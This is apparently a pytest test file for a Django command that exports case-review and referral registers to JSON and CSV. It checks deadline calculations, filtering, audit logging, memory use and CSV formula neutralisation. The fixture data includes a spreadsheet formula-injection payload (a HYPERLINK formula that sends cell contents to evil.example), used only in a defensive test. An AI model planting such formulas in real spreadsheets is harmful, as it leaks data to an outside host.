"""`casereviews export`: JSON and CSV of the register and referrals, read back as a user would."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
import time_machine
from django.core.management import call_command
from django.core.management.base import CommandError

from casereviews.core.models import AuditLog
from tests.factories import (
    DecisionFactory,
    DelayFactory,
    PartnershipFactory,
    ReferralFactory,
    ReviewFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("export", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.fixture
def data(world):
    referral = ReferralFactory(
        partnership=world.partnership,
        source_agency=world.police,
        child_pseudonym="Child A",
        received_on=dt.date(2017, 4, 10),
        la_aware_on=dt.date(2017, 4, 3),
        notified_on=dt.date(2017, 4, 7),
        rapid_review_on=None,
        summary=HOSTILE,
    )
    DecisionFactory(referral=referral, meeting_on=dt.date(2017, 4, 20), outcome="scr")
    DecisionFactory(referral=referral, meeting_on=dt.date(2017, 5, 18), outcome="thematic")
    review = ReviewFactory(
        partnership=world.partnership,
        ref="Ref057",
        referral=referral,
        review_type="thematic",
        summary="Murder by stabbing",
        initiated_on=dt.date(2017, 4, 2),
        agreed_on=dt.date(2017, 3, 23),
        lead_reviewer=world.reviewer,
    )
    DelayFactory(review=review, noted_on=dt.date(2017, 5, 1), reason="criminal")
    ReviewFactory(partnership=world.partnership, ref="Ref053", restricted=True, summary="@SUM(1)")
    ReviewFactory(partnership=world.other_partnership, ref="Ref999", summary="Not ours")
    return world


@time_machine.travel(dt.date(2017, 6, 1))
def test_reviews_json_has_snake_case_fields_iso_dates_and_timeliness(data):
    records = json.loads(run("reviews", "--format", "json", "--partnership", "northshire"))
    assert [r["ref"] for r in records] == ["Ref053", "Ref057"]
    ref057 = records[1]
    assert ref057["review_type"] == "thematic"
    assert ref057["initiated_on"] == "2017-04-02"
    assert ref057["published_on"] is None
    assert ref057["target_publication"] == {"due": "2017-10-02", "state": "on_track"}
    assert ref057["lead_reviewer"] == str(data.reviewer)
    assert ref057["latest_delay_reason"] == "criminal"
    assert ref057["restricted"] is False
    # Restricted reviews are exported for the business unit's records, but flagged.
    assert records[0]["restricted"] is True


@time_machine.travel(dt.date(2017, 6, 1))
def test_referrals_json_has_clocks_decision_and_review_ref(data):
    (record,) = json.loads(run("referrals", "--partnership", "northshire"))
    assert record["received_on"] == "2017-04-10"
    assert record["source_agency"] == "Northshire Police"
    # Aware Monday 3 April 2017: 5 working days is Monday 10 April; notified on the 7th.
    assert record["notification_due"] == {
        "due": "2017-04-10",
        "state": "met",
        "done": "2017-04-07",
        "working_days_late": 0,
    }
    assert record["rapid_review_due"]["state"] == "missed"
    assert record["decision_outcome"] == "thematic"
    assert record["decision_history"] == "2017-04-20 scr; 2017-05-18 thematic"
    assert record["review_ref"] == "Ref057"


@time_machine.travel(dt.date(2017, 6, 1))
def test_csv_flattens_clocks_and_neutralises_formulas(data):
    rows = list(
        csv.DictReader(
            io.StringIO(run("referrals", "--format", "csv", "--partnership", "northshire"))
        )
    )
    (row,) = rows
    assert row["notification_due"] == "2017-04-10"
    assert row["notification_state"] == "met"
    assert row["notification_done"] == "2017-04-07"
    assert row["rapid_review_state"] == "missed"
    assert row["summary"] == "'" + HOSTILE
    reviews = list(
        csv.DictReader(
            io.StringIO(run("reviews", "--format", "csv", "--partnership", "northshire"))
        )
    )
    by_ref = {r["ref"]: r for r in reviews}
    assert by_ref["Ref053"]["summary"] == "'@SUM(1)"
    assert by_ref["Ref053"]["restricted"] == "true"
    assert by_ref["Ref057"]["target_publication"] == "2017-10-02"
    assert by_ref["Ref057"]["target_publication_state"] == "on_track"
    assert "Ref999" not in by_ref


def test_out_writes_a_utf8_file(data, tmp_path):
    data.partnership.reviews.filter(ref="Ref057").update(summary="Café – naïve")
    path = tmp_path / "reviews.csv"
    run("reviews", "--format", "csv", "--out", str(path), "--partnership", "northshire")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["summary"] for r in rows} >= {"Café – naïve"}


def test_empty_csv_still_has_its_header(world):
    text = run("reviews", "--format", "csv", "--partnership", "southshire")
    header = next(csv.reader(io.StringIO(text)))
    assert {"ref", "target_publication", "target_publication_state", "restricted"} <= set(header)


def test_unknown_partnership_is_a_clear_error(data):
    with pytest.raises(CommandError, match="No partnership has the slug 'nowhere'"):
        run("reviews", "--partnership", "nowhere")


def test_partnership_is_required_when_there_are_several(data):
    with pytest.raises(CommandError, match="--partnership"):
        run("reviews")


def test_the_only_partnership_needs_no_slug(db):
    PartnershipFactory(slug="solo", name="Solo")
    assert json.loads(run("reviews")) == []


def test_an_export_writes_one_audit_entry(data):
    run("reviews", "--format", "csv", "--partnership", "northshire")
    (entry,) = AuditLog.objects.filter(action="export")
    assert entry.partnership == data.partnership
    assert entry.changes == {
        "export": "reviews",
        "format": "csv",
        "records": 2,
        "restricted_records": 1,
    }


def _add_referrals_with_reviews(world, start: int, count: int) -> None:
    from casereviews.referrals.models import Referral
    from casereviews.reviews.models import Review

    referrals = Referral.objects.bulk_create(
        Referral(
            partnership=world.partnership,
            source_agency=world.police,
            received_on=dt.date(2017, 4, 10),
            child_pseudonym=f"Child {n}",
            summary="A referral about a child seen by several agencies. " * 3,
        )
        for n in range(start, start + count)
    )
    Review.objects.bulk_create(
        Review(
            partnership=world.partnership,
            referral=referral,
            ref=f"Ref{start + n:05d}",
            summary="What happened, as the register says it.",
        )
        for n, referral in enumerate(referrals)
    )


@pytest.mark.parametrize("kind", ["reviews", "referrals"])
def test_ten_times_the_records_do_not_take_ten_times_the_memory(world, tmp_path, kind, monkeypatch):
    """Written to the file as read, a chunk at a time (tracemalloc's peak of Python
    allocations); chunks of 50 here, so that both sizes span several."""
    import tracemalloc

    from casereviews.reports import exports

    monkeypatch.setattr(exports, "CHUNK", 50)

    def peak() -> tuple[int, int]:
        path = tmp_path / f"{kind}.csv"
        tracemalloc.start()
        try:
            run(kind, "--format", "csv", "--out", str(path), "--partnership", "northshire")
            return tracemalloc.get_traced_memory()[1], path.stat().st_size
        finally:
            tracemalloc.stop()

    _add_referrals_with_reviews(world, 0, 200)
    run(kind, "--format", "csv", "--partnership", "northshire")  # imports, caches
    small, small_size = peak()
    _add_referrals_with_reviews(world, 200, 1_800)
    big, big_size = peak()
    assert big_size > 8 * small_size  # the file did grow with the records
    assert big < 2 * small, (small, big)


def test_json_written_as_read_is_the_whole_list_and_an_empty_one_too(data):
    text = run("reviews", "--partnership", "northshire")
    records = json.loads(text)
    assert text == json.dumps(records, indent=2, ensure_ascii=False) + "\n"
    assert {r["ref"] for r in records} == {"Ref057", "Ref053"}
    PartnershipFactory(name="Westshire", slug="westshire")
    assert run("reviews", "--partnership", "westshire") == "[]\n"


def test_an_export_that_fails_part_way_leaves_no_file_and_no_audit_entry(
    data, tmp_path, monkeypatch
):
    from casereviews.reports import exports, presenters

    real = presenters.review_record
    written = []

    def fails_on_the_second(review, today):
        if written:
            raise RuntimeError("the database went away")
        written.append(review.ref)
        return real(review, today)

    monkeypatch.setattr(exports.presenters, "review_record", fails_on_the_second)
    path = tmp_path / "reviews.csv"
    before = AuditLog.objects.filter(action="export").count()
    with pytest.raises(RuntimeError):
        run("reviews", "--format", "csv", "--out", str(path), "--partnership", "northshire")
    assert written and not path.exists()
    assert AuditLog.objects.filter(action="export").count() == before
